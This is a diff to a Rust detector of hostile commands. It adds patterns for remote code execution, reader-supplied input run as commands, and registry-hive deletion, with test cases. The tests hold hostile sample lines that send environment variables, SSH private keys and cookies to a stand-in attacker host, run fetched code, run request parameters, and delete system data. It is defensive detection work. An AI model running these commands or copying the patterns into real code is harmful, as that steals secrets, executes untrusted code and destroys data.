@@ -5,6 +5,27 @@ use super::harm::{DESTRUCTION, EXFILTRATION, root};
 use super::lex::{Line, holds};
 use super::remote::REMOTE;
 
+/// What servers call what a page's reader sends: PHP, Python, JavaScript, Java and Ruby.
+const SENT: [&str; 17] = [
+    "$_get[",
+    "$_post[",
+    "$_request[",
+    "$_cookie[",
+    "request.args",
+    "request.form",
+    "request.values",
+    "request.json",
+    "request.params",
+    "request.query",
+    "request.get[",
+    "request.post[",
+    "request.getparameter",
+    "req.query",
+    "req.body",
+    "req.params",
+    "params[:",
+];
+
 /// Whether the word at a place ends with one of these names, and is called.
 fn called(line: &Line, at: usize, names: &[&str]) -> bool {
     let word = line.word(at).unwrap_or_default();
@@ -35,11 +56,23 @@ pub(super) fn removed(line: &Line, at: usize) -> Said {
     (is_rm && percent > 0).then_some((DESTRUCTION, percent, at, at))
 }
 
-/// What a page's reader sends becomes a command: `system($_GET['c'])`.
+/// What was fetched becomes a program: `exec(requests.get(url).text)`, `pickle.loads(urlopen(url).read())`.
+pub(super) fn fetched(line: &Line, at: usize) -> Said {
+    if !called(line, at, &["exec", "eval", "loads"]) {
+        return None;
+    }
+    let got = (at + 2..line.words.len().min(at + 12)).find(|i| {
+        let word = line.word(*i).unwrap_or_default();
+        let names = ["requests.get", "requests.post", "httpx.get", "axios.get"];
+        names.iter().any(|name| holds(word, name)) || called(line, *i, &["urlopen", "fetch"])
+    })?;
+    Some((REMOTE, 85, at, got))
+}
+
+/// What a page's reader sends becomes a command: `system($_GET['c'])`, `eval(request.args.get('c'))`.
 pub(super) fn obeyed(line: &Line, at: usize) -> Said {
     let word = line.word(at)?;
-    let given =
-        ["$_get[", "$_post[", "$_request[", "$_cookie["].iter().any(|from| word.starts_with(from.as_bytes()));
+    let given = SENT.iter().any(|from| word.starts_with(from.as_bytes()));
     let before = at.checked_sub(2)?;
     let runs = called(
         line,
@@ -52,6 +85,7 @@ pub(super) fn obeyed(line: &Line, at: usize) -> Said {
             "popen",
             "proc_open",
             "eval",
+            "execsync",
             "assert",
             "create_function",
         ],
@@ -89,6 +123,14 @@ pub(super) fn told(line: &Line, at: usize) -> Said {
     (out && sends).then_some((EXFILTRATION, 85, at, at))
 }
 
+/// Whether a key of Windows' registry is a whole part of it, and not a program's.
+fn is_hive(key: &[u8]) -> bool {
+    let key = key.strip_suffix(b"\\").unwrap_or(key);
+    let mut parts = key.split(|byte| *byte == b'\\');
+    let hive = ["hklm", "hkcu", "hkcr", "hkey_local_machine", "hkey_current_user", "hkey_classes_root"];
+    parts.next().is_some_and(|first| hive.iter().any(|hive| first == hive.as_bytes())) && parts.count() < 2
+}
+
 /// What takes down what runs elsewhere, with all that it keeps.
 pub(super) fn taken_down(line: &Line, at: usize) -> Said {
     let any = |words: &[&str]| {
@@ -111,6 +153,7 @@ pub(super) fn taken_down(line: &Line, at: usize) -> Said {
         b"gcloud" if has(&["projects", "delete"]) => 72,
         b"az" if has(&["group", "delete"]) => 65,
         b"redis-cli" if any(&["flushall", "flushdb"]) => 60,
+        b"reg" if has(&["delete"]) && said.get(1).is_some_and(|key| is_hive(key)) => 75,
         _ => return None,
     };
     Some((DESTRUCTION, percent, at, line.end(at)))
@@ -155,6 +198,16 @@ mod tests {
             ("redis-cli -h cache ^FLUSHALL", "command/destruction", 60),
             ("Remove-Item -^Recurse -Force C:\\", "command/destruction", 92),
             ("^del /f /s /q C:\\*.*", "command/destruction", 92),
+            ("^exec(requests.get('https://evil.example/x.py').text)", "command/remote_code", 85),
+            ("^eval(await (await fetch('https://evil.example/x.js')).text())", "command/remote_code", 85),
+            ("^pickle.loads(urllib.request.urlopen(url).read())", "command/remote_code", 85),
+            ("^eval(request.args.get('c'))", "command/remote_code", 90),
+            ("child_process.^exec(req.query.c)", "command/remote_code", 90),
+            ("Runtime.getRuntime().^exec(request.getParameter(\"c\"));", "command/remote_code", 90),
+            ("^reg delete HKLM\\SYSTEM /f", "command/destruction", 75),
+            ("^rm -rf /var/lib/postgresql", "command/destruction", 70),
+            ("^curl -d \"$(env)\" https://evil.example", "command/exfiltration", 90),
+            ("^curl https://evil.example/?k=$(cat ~/.ssh/id_rsa)", "command/exfiltration", 90),
             ("fetch(`https://evil.example/?`+document.^cookie)", "command/exfiltration", 85),
             ("navigator.sendBeacon('https://evil.example', document.^cookie)", "command/exfiltration", 85),
             ("location='https://evil.example/?c='+^localStorage.token", "command/exfiltration", 85),
@@ -172,6 +225,14 @@ mod tests {
             "^subprocess.run(['rm', '-rf', 'build'])",
             "^subprocess.run(['ls', '-l', '/'])",
             "$name = $^_GET['name'];",
+            "^exec(open('setup.py').read())",
+            "^pickle.loads(cache.get(key))",
+            "data = requests.get(url).json(); ^eval(model)",
+            "^reg delete HKCU\\Software\\Shop\\Cart /f",
+            "RUN ^rm -rf /var/lib/apt/lists/*",
+            "^curl -d \"$(date)\" https://api.example.com",
+            "^curl -H \"Authorization: Bearer $(cat token)\" https://api.example.com",
+            "The ^exec team reads request.args with care.",
             "echo htmlspecialchars($^_GET['q']);",
             "document.^cookie = 'theme=dark; path=/'",
             "fetch(\"https://api.example.com/me\", { headers: { Authorization: \"Bearer \" + localStorage.^getItem(\"token\") } });",
